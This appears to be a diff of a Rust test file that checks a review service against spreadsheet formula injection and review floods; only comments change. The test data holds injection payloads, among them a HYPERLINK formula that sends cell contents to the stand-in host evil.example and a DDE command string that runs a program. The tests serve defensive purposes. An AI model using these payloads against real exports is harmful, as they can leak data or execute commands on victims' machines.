@@ -1,4 +1,4 @@
-//! Reviews: text that a spreadsheet would take for a formula, a flood of them, and commands that are switched off.
+//! Reviews: text that a spreadsheet would evaluate as a formula, a flood of them, and commands that are switched off.
 
 use std::fs;
 use std::net::TcpStream;
@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 
 use crate::live::{Daemon, FAST, command_headers, http, request, sticking, wait_for};
 
-/// Name and reason that are formulas to a spreadsheet, and one that begins as a written one does.
+/// Name and comment that a spreadsheet takes for formulas, and one that already starts with an escape.
 const FORMULAS: [[&str; 2]; 3] =
     [["=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0"], ["+ann", "\t@SUM(1,2)"], ["-ann", "'=1+1"]];
 
@@ -40,7 +40,7 @@ fn reviews_are_limited_harmless_in_a_spreadsheet_and_off_with_commands() {
             assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
         }
     }
-    // A flood: ten at once, then one every two seconds.
+    // A flood: ten at once, then one every two seconds are accepted.
     let statuses: Vec<u16> = (0..60).map(|_| keep(&daemon, ["y", "z"]).0).collect();
     let taken = statuses.iter().filter(|s| **s == 200).count();
     assert!(taken < 30 && statuses.iter().all(|s| [200, 429].contains(s)), "{statuses:?}");
